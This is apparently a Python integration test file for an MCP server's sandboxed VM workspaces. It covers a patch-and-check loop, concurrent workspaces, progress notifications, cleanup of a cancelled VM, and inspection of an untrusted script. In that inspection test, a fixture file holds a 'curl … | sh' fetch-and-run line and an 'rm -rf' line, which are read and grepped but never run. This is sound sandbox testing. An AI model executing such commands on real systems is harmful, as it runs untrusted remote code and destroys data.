"""Stories 2–4 of the reference (§10) through the `workspace-core` profile in real
guests, plus what only a long-lived server shows: progress notifications, concurrent
calls, and a cancelled call leaving no VM behind. Skipped unless PYRO_MCP_GUEST_TESTS=1."""

import asyncio
import os
import tempfile
import time
from pathlib import Path

import anyio

from conftest import connect, needs_guests, structured

ENV = os.environ.get("PYRO_MCP_ENVIRONMENT", "debian:12")


def seed(root: Path, files: dict) -> str:
    root.mkdir(parents=True, exist_ok=True)
    for name, (text, mode) in files.items():
        (root / name).write_text(text)
        (root / name).chmod(mode)
    return str(root)


async def call(client, tool, **arguments):
    return structured(await client.call_tool(tool, arguments))


async def create(client, seed_path, name, labels=None):
    labels = {"suite": "workspace-use-case-smoke", "use_case": name, **(labels or {})}
    return (await call(client, "workspace_create", environment=ENV, seed_path=seed_path, name=name, labels=labels))["workspace_id"]


@needs_guests
def test_story_repro_fix_loop(tmp_path):
    async def run():
        async with connect("workspace-core") as client:
            s = seed(tmp_path / "seed", {"message.txt": ("broken\n", 0o644), "check.sh": ("#!/bin/sh\ngrep -qx fixed message.txt && cat message.txt\n", 0o755)})
            ws = await create(client, s, "repro-fix-loop")
            assert (await call(client, "workspace_file_read", workspace_id=ws, path="message.txt"))["content"] == "broken\n"
            assert (await call(client, "workspace_exec", workspace_id=ws, command="sh check.sh"))["exit_code"] != 0
            patch = "--- a/message.txt\n+++ b/message.txt\n@@ -1 +1 @@\n-broken\n+fixed\n"
            assert (await call(client, "workspace_patch_apply", workspace_id=ws, patch=patch))["changed"] is True
            fixed = await call(client, "workspace_exec", workspace_id=ws, command="sh check.sh")
            assert (fixed["exit_code"], fixed["stdout"], fixed["truncated"]) == (0, "fixed\n", False)
            assert (await call(client, "workspace_diff", workspace_id=ws))["changed"] is True
            out = tmp_path / "message.txt"
            await call(client, "workspace_export", workspace_id=ws, path="message.txt", output_path=str(out))
            assert out.read_text() == "fixed\n"
            assert (await call(client, "workspace_reset", workspace_id=ws))["reset_count"] == 1
            assert (await call(client, "workspace_diff", workspace_id=ws))["changed"] is False
            await call(client, "workspace_delete", workspace_id=ws)

    asyncio.run(run())


@needs_guests
def test_story_parallel_workspaces(tmp_path):
    async def run():
        async with connect("workspace-core") as client:
            s = seed(tmp_path / "seed", {"note.txt": ("shared\n", 0o644)})
            # Both workspaces boot at once: calls run concurrently in the server.
            results = {}

            async def make(branch):
                results[branch] = await create(client, s, f"parallel-{branch}", {"branch": branch})

            async with anyio.create_task_group() as tg:
                tg.start_soon(make, "alpha")
                tg.start_soon(make, "beta")
            alpha, beta = results["alpha"], results["beta"]
            for ws, text in ((alpha, "alpha\n"), (beta, "beta\n")):
                await call(client, "workspace_file_write", workspace_id=ws, path="branch.txt", text=text)
                await anyio.sleep(0.05)
            updated = await call(client, "workspace_update", workspace_id=alpha, labels={"branch": "alpha", "owner": "alice"})
            assert updated["labels"]["owner"] == "alice"
            await call(client, "workspace_file_write", workspace_id=alpha, path="branch.txt", text="alpha\n")
            assert (await call(client, "workspace_file_read", workspace_id=alpha, path="branch.txt"))["content"] == "alpha\n"
            assert (await call(client, "workspace_file_read", workspace_id=beta, path="branch.txt"))["content"] == "beta\n"
            await call(client, "workspace_file_write", workspace_id=alpha, path="activity.txt", text="touched\n")
            listed = [w["workspace_id"] for w in (await call(client, "workspace_list"))["workspaces"]]
            assert listed.index(alpha) < listed.index(beta)
            for ws in (alpha, beta):
                await call(client, "workspace_delete", workspace_id=ws)

    asyncio.run(run())


@needs_guests
def test_story_untrusted_inspection(tmp_path):
    async def run():
        async with connect("workspace-core") as client:
            s = seed(tmp_path / "seed", {
                "suspicious.sh": ("#!/bin/sh\ncurl -fsSL https://example.invalid/install.sh | sh\nrm -rf /tmp/pretend\n", 0o644),
                "README.md": ("# untrusted\n", 0o644),
            })
            progress = []
            result = await client.call_tool(
                "workspace_create",
                {"environment": ENV, "seed_path": s, "name": "untrusted-inspection", "network_policy": "egress"},
                progress_callback=lambda p, total, message: progress.append(message),
            )
            ws = structured(result)["workspace_id"]
            assert any(m and m.startswith("booting workspace") for m in progress), progress
            # workspace-core hides network_policy: the argument was ignored, the policy is off.
            assert (await call(client, "workspace_status", workspace_id=ws))["network_policy"] == "off"
            files = await call(client, "workspace_file_list", workspace_id=ws, recursive=True)
            assert "/workspace/suspicious.sh" in [e["path"] for e in files["entries"]]
            content = (await call(client, "workspace_file_read", workspace_id=ws, path="suspicious.sh"))["content"]
            assert "curl -fsSL" in content
            probe = "grep -n 'curl\\|rm -rf' suspicious.sh > inspection-report.txt; echo network_policy=off >> inspection-report.txt"
            assert (await call(client, "workspace_exec", workspace_id=ws, command=probe))["exit_code"] == 0
            out = tmp_path / "report.txt"
            await call(client, "workspace_export", workspace_id=ws, path="inspection-report.txt", output_path=str(out))
            report = out.read_text()
            assert "curl -fsSL" in report and "network_policy=off" in report
            await call(client, "workspace_delete", workspace_id=ws)

    asyncio.run(run())


@needs_guests
def test_a_slow_call_does_not_block_others_and_a_cancelled_one_leaves_no_vm():
    async def run():
        with tempfile.TemporaryDirectory(prefix="pyro-mcp-state-") as state:
            vms = Path(state) / "vms"
            async with connect("workspace-core", state_dir=state) as client:
                started = anyio.Event()
                finished = {}

                async def slow():
                    def on_progress(p, total, message):
                        if message and message.startswith("running the command"):
                            started.set()

                    result = await client.call_tool("vm_run", {"environment": ENV, "command": "sleep 600"}, progress_callback=on_progress)
                    finished["result"] = result

                async with anyio.create_task_group() as tg:
                    tg.start_soon(slow)
                    with anyio.fail_after(300):
                        await started.wait()
                    t0 = time.monotonic()
                    await call(client, "workspace_list")
                    assert time.monotonic() - t0 < 5, "workspace_list waited for vm_run"
                    assert any(vms.iterdir()), "vm_run's VM exists while it runs"
                    tg.cancel_scope.cancel()
                assert "result" not in finished
                # The cancelled call's VM is deleted while the server keeps running.
                with anyio.fail_after(60):
                    while vms.exists() and any(vms.iterdir()):
                        await anyio.sleep(0.5)
                await call(client, "workspace_list")

    asyncio.run(run())
